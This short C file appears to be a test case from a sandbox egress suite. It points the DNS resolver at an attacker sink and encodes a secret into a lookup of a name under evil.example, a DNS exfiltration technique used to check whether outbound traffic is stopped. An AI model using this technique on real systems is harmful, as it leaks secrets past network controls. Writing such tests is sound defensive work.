// class: network
// rule: outbound_connectivity
// success: a C program sets the resolver's state to a server of the attacker
// proof: udp
#include "attack.h"
#include <netdb.h>
#include <resolv.h>

int main(void)
{
    struct addrinfo *found;
    struct sockaddr_in sink = endpoint("ATTACK_SINK_UDP");
    char name[256];
    res_init();
    _res.nscount = 1;
    _res.nsaddr_list[0] = sink;
    _res.retrans = 1;
    _res.retry = 1;
    snprintf(name, sizeof name, "%s.evil.example", SECRET_);
    int error = getaddrinfo(name, "443", NULL, &found);
    /* No server answers there. To have asked is success; errno tells whether a packet left. */
    if (error == EAI_FAIL) return stopped("getaddrinfo");
    return reached();
}
